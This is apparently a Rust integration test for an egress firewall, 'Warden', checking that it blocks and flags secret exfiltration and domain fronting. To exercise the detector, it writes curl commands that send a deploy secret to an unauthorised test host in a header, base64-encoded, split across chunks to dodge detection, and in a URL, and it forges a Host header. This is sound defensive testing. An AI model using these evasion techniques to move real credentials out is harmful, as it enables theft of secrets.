//! Exfiltration detection (issue #7): a named secret (`--secret-env`) sent to a host that is not
//! its audience — in a header, base64-encoded, in a body split across chunks, in the URL — is
//! refused in block mode and flagged `secret-exfiltration` naming the secret, never its value,
//! in any record; the same secret to its declared audience passes; a GitHub-format token is kept
//! from non-GitHub hosts; a Host that differs from the SNI is refused as `domain-fronting`.
//! Audit mode lets the same requests through and flags them.
//!
//! Needs root (skips loudly otherwise). Each test builds its own namespace and origins.

use std::time::Duration;

use tests::clients::{outcome, output_of, quote};
use tests::inspect::InspectOrigins;
use tests::{
    Netns, Origins, RunOutput, WardenRun, assert_run, assert_run_eq, audit, skip_unless_root,
};

const T: Duration = Duration::from_secs(90);

/// The secret. Long enough to be looked for, shaped like no known token.
const SECRET: &str = "s3cr3t-D3PL0Y-v4lue-2718281828";
/// A GitHub-format token (not a real one).
const TOKEN: &str = "ghp_Zq3xWv8Lr2Tn6Yp0Ks4Hd7Fb1Mc5Gj9Ae3Ux";

fn curl(extra: &str, url: &str) -> String {
    format!(
        "curl -sS -g --max-time 20 -D - {extra} {} -w '\\nstatus %{{http_code}}\\n'",
        quote(url)
    )
}

/// Steps run under `--secret-env DEPLOY_KEY` with `DEPLOY_KEY` in their environment.
fn steps(h2: &str, h1: &str) -> Vec<String> {
    vec![
        outcome(
            "header",
            &curl("-H \"X-Deploy: $DEPLOY_KEY\"", &format!("{h2}/header")),
        ),
        outcome(
            "base64",
            &curl(
                "-H \"Authorization: Basic $(printf 'ci:%s' \"$DEPLOY_KEY\" | base64 -w0)\"",
                &format!("{h2}/basic"),
            ),
        ),
        // Chunked upload: the secret's two halves arrive in two writes 300 ms apart.
        outcome(
            "body",
            &format!(
                "(printf 'payload=%s' \"${{DEPLOY_KEY%%v4lue*}}\"; sleep 0.3; \
                 printf 'v4lue%s&end=1' \"${{DEPLOY_KEY#*v4lue}}\") | {}",
                curl("--http1.1 -T - -X POST", &format!("{h2}/echo"))
            ),
        ),
        outcome("token in url", &curl("", &format!("{h2}/upload?t={TOKEN}"))),
        outcome(
            "fronting",
            &curl("--http1.1 -H 'Host: h1.example'", &format!("{h2}/front")),
        ),
        outcome(
            "audience",
            &curl("-H \"X-Deploy: $DEPLOY_KEY\"", &format!("{h1}/deploy")),
        ),
        outcome("clean", &curl("", &format!("{h2}/clean"))),
        // Over the upload budget (64 KiB): flagged, not refused.
        outcome(
            "big upload",
            &format!(
                "head -c 100000 /dev/zero | {} >/dev/null",
                curl("--data-binary @-", &format!("{h1}/echo"))
            ),
        ),
    ]
}

fn run(mode: &str) -> (RunOutput, Vec<String>, String) {
    let netns = Netns::new().unwrap();
    let origins = Origins::start(&netns).unwrap();
    let inspect = InspectOrigins::start(&netns, &origins).unwrap();
    let (h2, h1) = (inspect.h2(), inspect.h1());
    let dir = tempfile::tempdir().unwrap();
    let policy = dir.path().join("policy.yml");
    std::fs::write(
        &policy,
        "secret-env: [DEPLOY_KEY]\nsecret-audiences:\n  DEPLOY_KEY: [h1.example]\n",
    )
    .unwrap();
    let out = WardenRun::new(&netns)
        .timeout(T)
        .env("DEPLOY_KEY", SECRET)
        .args(["--tls-inspection", "--upstream-ca"])
        .args([origins.ca_pem_path()])
        .args([
            "--egress-policy",
            mode,
            "--allowed-endpoints",
            "h1.example h2.example",
        ])
        .args(["--upload-budget", "64KiB", "--policy"])
        .args([&policy])
        .cmd(["sh", "-c", &steps(&h2.url(""), &h1.url("")).join("\n")])
        .run()
        .unwrap();
    let seen = h2.requests().iter().map(|r| r.target.clone()).collect();
    let raw = std::fs::read_to_string(&out.audit_log).unwrap_or_default();
    (out, seen, raw)
}

/// No spelling of the secret or the token is anywhere in the audit log or Warden's output.
fn assert_never_written(out: &RunOutput, raw: &str) {
    let b64 = std::process::Command::new("sh")
        .args(["-c", &format!("printf 'ci:%s' '{SECRET}' | base64 -w0")])
        .output()
        .map(|o| String::from_utf8_lossy(&o.stdout).into_owned())
        .unwrap_or_default();
    assert!(b64.len() > 20, "base64 of the secret: {b64:?}");
    for value in [SECRET, TOKEN, b64.as_str(), &SECRET[..20]] {
        assert_run!(out, !raw.contains(value), "the audit log holds {value:?}");
        assert_run!(out, !out.stderr.contains(value), "stderr holds {value:?}");
    }
}

fn anomaly<'a>(r: &'a serde_json::Value, kind: &str) -> Option<&'a str> {
    r["anomalies"]
        .as_array()?
        .iter()
        .find(|a| a["kind"] == kind)
        .and_then(|a| a["detail"].as_str())
}

#[test]
fn block_mode_keeps_secrets_from_other_hosts() {
    if skip_unless_root("block_mode_keeps_secrets_from_other_hosts") {
        return;
    }
    let (out, seen, raw) = run("block");
    out.assert_success();
    let text = |label| output_of(&out.stdout, label).unwrap_or_default();
    for label in ["header", "base64", "token in url"] {
        let t = text(label);
        assert_run!(out, t.contains("status 403"), "{label}: {t}");
        assert_run!(
            out,
            t.contains("x-warden: secret-exfiltration"),
            "{label}: {t}"
        );
    }
    let t = text("fronting");
    assert_run!(
        out,
        t.contains("x-warden: domain-fronting"),
        "fronting: {t}"
    );
    for label in ["audience", "clean"] {
        let t = text(label);
        assert_run!(out, t.contains("status 200"), "{label}: {t}");
    }
    // The body never arrived whole: the origin echoes what it gets.
    assert_run!(
        out,
        !text("body").contains("end=1"),
        "body: {}",
        text("body")
    );

    let one = |prefix: &str| {
        let found = audit::requests_to(&out.records, prefix);
        assert_run_eq!(out, found.len(), 1, "request records for {prefix}");
        found[0].clone()
    };
    for (prefix, what) in [
        (
            "https://h2.example/header",
            "secret DEPLOY_KEY (plain) in header x-deploy",
        ),
        (
            "https://h2.example/basic",
            "secret DEPLOY_KEY (base64) in header authorization",
        ),
        ("https://h2.example/echo", "secret DEPLOY_KEY"),
        ("https://h2.example/upload", "github-token"),
    ] {
        let r = one(prefix);
        assert_run_eq!(out, r["decision"], "blocked", "{r}");
        let detail = anomaly(&r, "secret-exfiltration").unwrap_or_default();
        assert_run!(out, detail.contains(what), "{prefix}: {detail}");
        assert_run!(out, detail.contains("h2.example"), "{prefix}: {detail}");
    }
    let body = one("https://h2.example/echo");
    assert_run!(
        out,
        anomaly(&body, "secret-exfiltration")
            .unwrap_or_default()
            .contains("the body"),
        "{body}"
    );
    let front = one("https://h1.example/front");
    assert_run_eq!(out, front["decision"], "blocked", "{front}");
    assert_run!(out, anomaly(&front, "domain-fronting").is_some(), "{front}");
    let ok = one("https://h1.example/deploy");
    assert_run!(
        out,
        ok["anomalies"].is_null(),
        "the audience was flagged: {ok}"
    );

    // The origin saw none of the refused requests (the body's request may have started).
    for target in ["/header", "/basic", "/front"] {
        assert_run!(
            out,
            !seen.iter().any(|s| s == target),
            "the origin got {target}: {seen:?}"
        );
    }
    assert_run!(
        out,
        !seen.iter().any(|s| s.starts_with("/upload")),
        "{seen:?}"
    );
    assert_run!(
        out,
        out.stderr.contains("ANOMAL"),
        "the summary names anomalies"
    );
    let over: Vec<_> = audit::connections(&out.records)
        .into_iter()
        .filter(|c| anomaly(c, "upload-budget").is_some())
        .collect();
    assert_run_eq!(out, over.len(), 1, "connections over the upload budget");
    assert_run_eq!(out, over[0]["dst"]["name"], "h1.example", "{}", over[0]);
    assert_never_written(&out, &raw);
}

#[test]
fn audit_mode_flags_and_lets_through() {
    if skip_unless_root("audit_mode_flags_and_lets_through") {
        return;
    }
    let (out, seen, raw) = run("audit");
    out.assert_success();
    for label in ["header", "base64", "body", "token in url", "fronting"] {
        let t = output_of(&out.stdout, label).unwrap_or_default();
        assert_run!(out, t.contains("status 200"), "{label}: {t}");
    }
    let flagged = audit::requests(&out.records)
        .into_iter()
        .filter(|r| anomaly(r, "secret-exfiltration").is_some())
        .count();
    assert_run_eq!(out, flagged, 4, "flagged requests");
    let front = audit::requests_to(&out.records, "https://h1.example/front");
    assert_run!(
        out,
        anomaly(front[0], "domain-fronting").is_some(),
        "{}",
        front[0]
    );
    assert_run!(out, seen.iter().any(|s| s == "/header"), "{seen:?}");
    // The token's URL is recorded with the value redacted.
    let up = audit::requests_to(&out.records, "https://h2.example/upload");
    assert_run_eq!(
        out,
        up[0]["http"]["url"],
        "https://h2.example/upload?t=REDACTED",
        "{}",
        up[0]
    );
    assert_never_written(&out, &raw);
}
